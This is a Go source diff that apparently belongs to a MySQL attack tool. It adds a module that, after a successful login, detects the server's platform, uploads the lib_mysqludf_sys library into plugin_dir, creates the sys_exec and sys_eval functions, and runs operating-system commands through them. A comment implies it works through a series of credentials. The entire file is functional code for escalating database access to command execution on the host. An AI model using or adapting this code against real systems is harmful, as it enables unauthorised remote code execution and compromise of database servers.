@@ -0,0 +1,238 @@
+package core
+
+import (
+    "context"
+    "database/sql"
+    "errors"
+    "fmt"
+    "os"
+    "path/filepath"
+    "strings"
+
+    "github.com/go-sql-driver/mysql"
+)
+
+// MySQL error numbers for user-defined functions
+const (
+    errUDFExists      = 1125 // ER_UDF_EXISTS
+    errFunctionAbsent = 1305 // ER_SP_DOES_NOT_EXIST
+)
+
+// udfLibrary is the base name the library is installed under in plugin_dir
+const udfLibrary = "lib_mysqludf_sys"
+
+// udfFunctions are the functions created from the library and their return types
+var udfFunctions = []struct {
+    name    string
+    returns string
+}{
+    {"sys_exec", "INTEGER"},
+    {"sys_eval", "STRING"},
+}
+
+// udfTarget is the platform the server was built for and where it loads plugins from
+type udfTarget struct {
+    os        string
+    arch      string
+    pluginDir string
+}
+
+// ext is the shared library extension the server loads
+func (t udfTarget) ext() string {
+    if t.os == "windows" {
+        return ".dll"
+    }
+    return ".so"
+}
+
+// localLibrary is the build of the library for this target under dir, the --udf-dir
+func (t udfTarget) localLibrary(dir string) string {
+    return filepath.Join(dir, fmt.Sprintf("%s_%s_%s%s", udfLibrary, t.os, t.arch, t.ext()))
+}
+
+// remoteLibrary is where the library is written on the server
+func (t udfTarget) remoteLibrary() string {
+    dir := t.pluginDir
+    if !strings.HasSuffix(dir, "/") && !strings.HasSuffix(dir, "\\") {
+        if t.os == "windows" {
+            dir += "\\"
+        } else {
+            dir += "/"
+        }
+    }
+    return dir + udfLibrary + t.ext()
+}
+
+// detectUDFTarget reads the server's build platform and plugin_dir, normalizing the names to
+// the ones used for the library builds (linux/windows/darwin, amd64/386/arm64)
+func detectUDFTarget(ctx context.Context, sess *session) (udfTarget, error) {
+    var compileOS, machine, pluginDir sql.NullString
+    if err := sess.queryRow(ctx, "SELECT @@version_compile_os, @@version_compile_machine, @@plugin_dir",
+        &compileOS, &machine, &pluginDir); err != nil {
+        return udfTarget{}, err
+    }
+    if pluginDir.String == "" {
+        return udfTarget{}, fmt.Errorf("the server reports no plugin_dir")
+    }
+
+    t := udfTarget{pluginDir: pluginDir.String}
+    lowerOS := strings.ToLower(compileOS.String)
+    switch {
+    case strings.Contains(lowerOS, "win"):
+        t.os = "windows"
+    case strings.Contains(lowerOS, "osx") || strings.Contains(lowerOS, "darwin") || strings.Contains(lowerOS, "macos"):
+        t.os = "darwin"
+    default:
+        t.os = "linux"
+    }
+    switch lowerMachine := strings.ToLower(machine.String); lowerMachine {
+    case "x86_64", "amd64", "x64":
+        t.arch = "amd64"
+    case "i386", "i586", "i686", "x86":
+        t.arch = "386"
+    case "aarch64", "arm64":
+        t.arch = "arm64"
+    default:
+        if lowerMachine == "" {
+            return udfTarget{}, fmt.Errorf("the server reports no build architecture")
+        }
+        t.arch = lowerMachine
+    }
+    return t, nil
+}
+
+// installedUDFs returns which of the functions already exist on the server
+func installedUDFs(ctx context.Context, sess *session) (map[string]bool, error) {
+    rows, err := sess.query(ctx, "SELECT name FROM mysql.func WHERE name IN ('sys_exec', 'sys_eval')")
+    if err != nil {
+        return nil, err
+    }
+    defer rows.Close()
+    installed := make(map[string]bool)
+    for rows.Next() {
+        var name string
+        if err := rows.Scan(&name); err != nil {
+            return nil, err
+        }
+        installed[strings.ToLower(name)] = true
+    }
+    return installed, rows.Err()
+}
+
+// deployUDF uploads the library build matching the server into plugin_dir and creates sys_exec
+// and sys_eval from it. Functions that already exist are left alone. It describes what was done.
+func (e *Engine) deployUDF(ctx context.Context, sess *session) (string, error) {
+    target, err := detectUDFTarget(ctx, sess)
+    if err != nil {
+        return "", fmt.Errorf("detecting server platform: %v", err)
+    }
+    e.verbosePrintf("UDF target: %s/%s, plugin_dir %s\n", target.os, target.arch, target.pluginDir)
+
+    // mysql.func may be unreadable; CREATE FUNCTION then reports what already exists
+    installed, err := installedUDFs(ctx, sess)
+    if err != nil {
+        e.verbosePrintln("Could not read mysql.func:", err)
+        installed = map[string]bool{}
+    }
+    if len(installed) == len(udfFunctions) {
+        return "sys_exec and sys_eval are already installed", nil
+    }
+
+    local := target.localLibrary(e.opts.UDFDir)
+    if _, err := os.Stat(local); err != nil {
+        return "", fmt.Errorf("no library build for %s/%s: expected %s", target.os, target.arch, local)
+    }
+    remote := target.remoteLibrary()
+    size, err := uploadFile(ctx, sess, local, remote)
+    if err != nil {
+        return "", fmt.Errorf("uploading %s to %s: %v", local, remote, err)
+    }
+    e.verbosePrintf("Uploaded %s (%d bytes) to %s\n", local, size, remote)
+
+    var created []string
+    for _, fn := range udfFunctions {
+        if installed[fn.name] {
+            continue
+        }
+        query := fmt.Sprintf("CREATE FUNCTION %s RETURNS %s SONAME '%s%s'", fn.name, fn.returns, udfLibrary, target.ext())
+        if _, err := sess.exec(ctx, query); err != nil {
+            var myErr *mysql.MySQLError
+            if errors.As(err, &myErr) && myErr.Number == errUDFExists {
+                continue
+            }
+            return "", fmt.Errorf("creating %s: %v", fn.name, err)
+        }
+        created = append(created, fn.name)
+    }
+    if len(created) == 0 {
+        return fmt.Sprintf("Uploaded %s; sys_exec and sys_eval already existed", remote), nil
+    }
+    return fmt.Sprintf("Uploaded %s and created %s", remote, strings.Join(created, ", ")), nil
+}
+
+// removeUDF drops the functions again. The library stays in plugin_dir, since SQL cannot
+// delete files.
+func (e *Engine) removeUDF(ctx context.Context, sess *session) error {
+    for _, fn := range udfFunctions {
+        if _, err := sess.exec(ctx, "DROP FUNCTION IF EXISTS "+fn.name); err != nil {
+            return fmt.Errorf("dropping %s: %v", fn.name, err)
+        }
+    }
+    e.udfDeployed.Store(false)
+    return nil
+}
+
+// runOSCommand runs command through sys_eval and returns its output
+func runOSCommand(ctx context.Context, sess *session, command string) (string, error) {
+    rows, err := sess.query(ctx, "SELECT sys_eval(?)", command)
+    if err != nil {
+        var myErr *mysql.MySQLError
+        if errors.As(err, &myErr) && myErr.Number == errFunctionAbsent {
+            return "", fmt.Errorf("sys_eval is not installed, run 'udf install' first")
+        }
+        return "", err
+    }
+    var output sql.NullString
+    if rows.Next() {
+        err = rows.Scan(&output)
+    } else {
+        err = rows.Err()
+    }
+    rows.Close()
+    if err != nil {
+        return "", err
+    }
+    if !output.Valid {
+        return "", fmt.Errorf("sys_eval returned NULL (the command could not be started)")
+    }
+    return output.String, nil
+}
+
+// runDeployUDF deploys the functions after a successful login with --deploy-udf and describes
+// the outcome
+func (e *Engine) runDeployUDF(ctx context.Context, db *sql.DB, user string, log *os.File) string {
+    if e.udfDeployed.Load() {
+        return ""
+    }
+    deployCtx, cancel := e.withQueryTimeout(ctx)
+    defer cancel()
+
+    sess, err := e.openSession(deployCtx, db)
+    if err != nil {
+        return e.warningString("UDF deployment failed: %v", err)
+    }
+    defer sess.close()
+
+    result, err := e.deployUDF(deployCtx, sess)
+    if err != nil {
+        // Usually missing FILE or INSERT privileges, a later credential may have them
+        e.emitRecord("udf", map[string]interface{}{"user": user, "error": err.Error()})
+        return e.warningString("UDF deployment failed: %v", err)
+    }
+    e.udfDeployed.Store(true)
+    if log != nil {
+        log.WriteString(fmt.Sprintf("UDF deployed as %s: %s\n", user, result))
+    }
+    e.emitRecord("udf", map[string]interface{}{"user": user, "result": result})
+    return e.successString("%s", result)
+}